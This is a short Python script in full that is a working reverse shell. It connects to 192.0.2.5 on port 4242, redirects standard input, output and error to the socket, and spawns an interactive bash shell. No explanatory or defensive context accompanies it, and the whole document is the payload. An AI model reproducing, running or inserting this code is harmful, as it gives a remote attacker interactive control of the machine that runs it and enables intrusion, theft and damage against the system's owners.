import socket,pty,os
with socket.socket() as s:
    s.connect(('192.0.2.5',4242))
    for fd in (0,1,2): os.dup2(s.fileno(),fd)
    pty.spawn('/bin/bash')
